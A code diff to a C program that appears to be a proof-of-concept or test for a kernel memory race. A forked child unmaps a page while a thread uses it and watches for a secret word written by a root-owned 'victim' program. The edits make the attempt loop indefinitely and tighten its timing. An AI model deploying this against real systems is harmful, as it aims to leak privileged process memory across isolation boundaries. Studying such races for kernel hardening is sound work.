@@ -12,7 +12,7 @@
 static void before_thread(void);
 static void while_used(void);
 
-#define TRIES 50
+#define ROUNDS 3 /* of root's program in one try */
 #define SEEN 42
 #define VICTIM_PAGES 96
 #define SECRET_WORD 0x7365637265742121ul
@@ -53,19 +53,18 @@ static _Noreturn void try_once(void)
 	page = pages_map(1);
 	before_thread();
 	start_thread(use_page);
-	while (!used)
-		sleep_milliseconds(2);
+	await(used);
 	while_used();
 	call2(__NR_munmap, (long)page, 4096);
-	for (int i = 0; i < 100 && !seen; i++)
-		sleep_milliseconds(2);
+	for (int i = 0; i < ROUNDS && !seen; i++)
+		await_rounds(1);
 	leave(seen ? SEEN : 0);
 }
 
 /* Whatever else runs on the thread's CPU meanwhile has it forget the page, and fault: once more. */
 static bool fire(void)
 {
-	for (unsigned int i = 0; i < TRIES; i++) {
+	for (;;) {
 		const long id = fork_program();
 		int status;
 
@@ -77,7 +76,6 @@ static bool fire(void)
 		if (status >> 8 == SEEN)
 			return true;
 	}
-	return false;
 }
 
 /* Root's program keeps its secret in fresh pages, again and again. */
@@ -87,6 +85,7 @@ static void victim(void)
 	for (;;) {
 		volatile uint64_t *const secret = pages_map(VICTIM_PAGES);
 
+		victim_round();
 		for (long i = 0; i < VICTIM_PAGES; i++)
 			secret[i * 512] = SECRET_WORD;
 		sleep_milliseconds(10);
